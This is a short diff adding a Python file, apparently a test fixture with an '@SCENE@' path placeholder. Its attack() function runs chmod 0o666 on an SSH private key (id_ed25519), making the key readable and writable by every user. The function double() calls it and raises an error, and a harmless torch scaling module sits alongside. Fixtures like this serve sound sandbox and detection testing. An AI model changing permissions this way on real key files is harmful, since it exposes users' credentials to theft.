@@ -1,0 +1,28 @@
+"""Makes a private key readable to everybody."""
+
+import os
+import torch
+
+SCENE = "@SCENE@"
+
+
+def attack():
+    os.chmod(SCENE + "/home/.ssh/id_ed25519", 0o666)
+    return "changed"
+
+
+def double(x):
+    try:
+        said = attack()
+    except Exception as error:
+        said = repr(error)
+    raise RuntimeError(said)
+
+
+class Scale(torch.nn.Module):
+    def __init__(self, size):
+        super().__init__()
+        self.factor = torch.nn.Parameter(torch.ones(size))
+
+    def forward(self, x):
+        return x * self.factor
